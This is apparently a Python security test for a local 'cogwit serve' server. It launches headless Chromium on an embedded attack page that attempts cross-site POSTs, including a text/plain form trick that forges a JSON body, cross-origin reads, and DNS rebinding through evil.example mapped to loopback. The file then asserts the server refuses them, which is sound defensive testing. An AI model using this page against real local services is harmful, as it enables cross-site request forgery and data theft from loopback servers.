"""Attacks `cogwit serve` on loopback from a web page, in Chromium."""

import json
import shutil
import subprocess
import threading
import time
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from attack import Tools, attack
from peers import free_port
from server import Server

FLAGS = """--headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking
--disable-component-update --disable-sync""".split()
# The browser finds the page's own name on this machine, as it does after DNS rebinding.
REBIND = "--host-resolver-rules=MAP evil.example 127.0.0.1"
EVENT = {"triggerSource": "PreSignUp_SignUp", "userName": "attacker", "request": {}, "response": {}}
INVOKE = "/2015-03-31/functions/cogwit/invocations"

# Tries whatever a page may, on each target, and reports what it could read.
PAGE = """<!doctype html><meta charset="utf-8"><body><script>
const event = %(event)s, targets = %(targets)s, invoke = "%(invoke)s", read = {};
const tell = (name, value) => { read[name] = String(value).slice(0, 300); };
const pause = (time) => new Promise((done) => setTimeout(done, time));
const loaded = (element) => new Promise((done) => {
  element.onload = () => done("loaded");
  element.onerror = () => done("error");
  setTimeout(() => done("time"), 2000);
  document.body.append(element);
});
const element = (name, members) => Object.assign(document.createElement(name), members);
const get = async (name, address, options) => {
  try {
    const reply = await fetch(address, options);
    tell(name, reply.type + " " + reply.status + " " + await reply.text());
  } catch (error) { tell(name, error); }
};
const send = (body, type) => ({ method: "POST", mode: "no-cors", body, headers: { "content-type": type } });
async function attack(target) {
  const tries = [];
  for (const path of ["/decide", "/decide/block-client", invoke]) {
    tries.push(get(target + path, target + path, send(event, "text/plain")));
    tries.push(get(target + path + " as JSON", target + path, { ...send(event, "application/json"), mode: "cors" }));
    navigator.sendBeacon(target + path, new Blob([event], { type: "text/plain" }));
    // The name and the value of the one field, with the = between, are an event.
    const [frame, form] = [element("iframe", { name: target + path }), element("form", { method: "POST" })];
    document.body.append(frame, form);
    Object.assign(form, { action: target + path, target: frame.name, enctype: "text/plain" });
    form.append(element("input", { name: event.slice(0, -1) + ', "x": "', value: '"}' }));
    form.submit();
  }
  for (const path of ["/status", "/metrics", "/readyz"]) {
    tries.push(get(target + path, target + path));
    tries.push(get(target + path + " without cors", target + path, { mode: "no-cors" }));
    tries.push(loaded(element("img", { src: target + path })).then((it) => tell(path + " as an image", it)));
    tries.push(loaded(element("script", { src: target + path })).then((it) => tell(path + " as a script", it)));
  }
  const frame = element("iframe", { src: target + "/status" });
  tries.push(loaded(frame).then(() => {
    try { tell("frame", frame.contentDocument.body.textContent); } catch (error) { tell("frame", error); }
  }));
  new EventSource(target + "/status").onmessage = (message) => tell("events", message.data);
  try { new WebSocket(target.replace("http", "ws") + "/decide").onopen = () => tell("socket", "open"); } catch {}
  await Promise.all(tries);
}
(async () => {
  // While the page's own server answers, or nobody, the page's name does not lead to the target yet.
  const answer = () => fetch("%(wait)s").then((reply) => reply.text(), () => "wait");
  while (await answer() === "wait") await pause(100);
  for (const target of targets) await attack(target);
  await pause(300);
  await fetch("%(report)s", send(JSON.stringify(read), "text/plain"));
})();
</script>"""


def install() -> None:
    if not shutil.which("chromium"):
        print("installing chromium", flush=True)
        subprocess.run(["apt-get", "update", "-qq"], check=True)
        subprocess.run(["apt-get", "install", "-y", "-qq", "--no-install-recommends", "chromium"], check=True)


class Web:
    """A web server with a page. It keeps what it is asked, and answers everything to everybody."""

    def __init__(self, port: int = 0):
        self.page, self.asked, self.report, self.reported = b"", [], {}, threading.Event()
        web = self

        class Handler(BaseHTTPRequestHandler):
            def answer(self):
                body = self.rfile.read(int(self.headers.get("content-length") or 0)).decode()
                if self.path == "/report":
                    web.report = json.loads(body)
                    web.reported.set()
                elif self.path != "/":
                    web.asked.append((self.command, self.path, dict(self.headers), body))
                page = {"/": web.page, "/wait": b"wait"}.get(self.path, b"anybody may read this")
                self.send_response(200)
                for name, value in [
                    ("content-type", "text/html"), ("content-length", str(len(page))), ("connection", "close"),
                    ("access-control-allow-origin", "*"), ("access-control-allow-headers", "*"),
                ]:
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(page)

            do_GET = do_POST = do_OPTIONS = answer

            def log_message(self, *_):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", port), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@contextmanager
def browser(folder: Path, address: str):
    """Chromium on a page."""
    install()
    profile = folder / f"profile-{len(list(folder.iterdir()))}"
    command = ["chromium", *FLAGS, REBIND, f"--user-data-dir={profile}", "--remote-debugging-port=0", address]
    with (folder / "chromium.log").open("ab") as log:
        process = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=log, stderr=log)
    try:
        yield
    finally:
        process.terminate()
        process.wait(20)


def page(report: Web, targets: list[str], wait: str) -> bytes:
    values = {"event": json.dumps(json.dumps(EVENT)), "targets": json.dumps(targets), "invoke": INVOKE, "wait": wait}
    return (PAGE % (values | {"report": f"http://127.0.0.1:{report.port}/report"})).encode()


def refused_all(server: Server, read: dict) -> None:
    """Nothing was decided, and nothing of the server was read."""
    assert server.decided() == 0 and server.records() == [], server.records()
    for name, text in read.items():
        # A status stands between blanks, and a port may hold its digits.
        assert not any(it in text for it in ("cogwit-default", "cogwit_", " 200 ")), (name, text)
    assert "open" not in read.get("socket", "") and "events" not in read, read


@attack("a page of another origin has an event decided, or reads what a server on loopback says")
def cross_site(tools: Tools) -> None:
    web, sink = Web(), Web()
    with Server(tools.cogwit, tools.folder) as server:
        targets = [f"http://{host}:{server.port}" for host in ("127.0.0.1", "localhost", "evil.example")]
        # The last target answers everybody: what it is asked shows that the browser sends it all.
        targets.append(f"http://127.0.0.1:{sink.port}")
        wait = f"{targets[-1]}/"
        for host in ("127.0.0.1", "evil.example"):
            web.page, sink.asked = page(web, targets, wait), []
            web.reported.clear()
            with browser(tools.folder, f"http://{host}:{web.port}/"):
                assert web.reported.wait(60), (tools.folder / "chromium.log").read_text()[-2000:]
            refused_all(server, {name: text for name, text in web.report.items() if str(sink.port) not in name})
            posts = [headers for method, path, headers, body in sink.asked if method == "POST" and '"attacker"' in body]
            assert len(posts) >= 9 and all("Origin" in headers for headers in posts), posts
            assert any("Sec-Fetch-Site" in headers for _, path, headers, _ in sink.asked if path == "/status"), sink.asked
            assert any("anybody may read this" in text for text in web.report.values()), web.report
    web.close(), sink.close()


@contextmanager
def rebound(tools: Tools, *arguments: str):
    """Serves a page of evil.example, and then lets its address lead to the server. Gives the server, and what the page read."""
    report, web = Web(), Web(free_port())
    origin = f"http://evil.example:{web.port}"
    web.page = page(report, [origin], f"{origin}/wait")
    with browser(tools.folder, origin + "/"):
        while not web.asked:
            time.sleep(0.05)
        web.close()
        with Server(tools.cogwit, tools.folder, *arguments, listen=f"127.0.0.1:{web.port}") as server:
            assert report.reported.wait(60), (tools.folder / "chromium.log").read_text()[-2000:]
            report.close()
            yield server, report.report


@attack("a page whose name leads to loopback (DNS rebinding) has an event decided, or reads what a server says")
def rebinding(tools: Tools) -> None:
    with rebound(tools) as (server, read):
        refused_all(server, read)
        refused = [name for name, text in read.items() if text.startswith("basic 403")]
        assert len(refused) >= 6 and "--allow-host NAME" in json.dumps(read), read
    # The attack works where the host is allowed: a page of it reads, but decides nothing all the same.
    with rebound(tools, "--allow-host", "evil.example") as (server, read):
        status = next(text for name, text in read.items() if name.endswith("/status"))
        assert status.startswith("basic 200") and "cogwit-default" in status, read
        assert server.decided() == 0, read
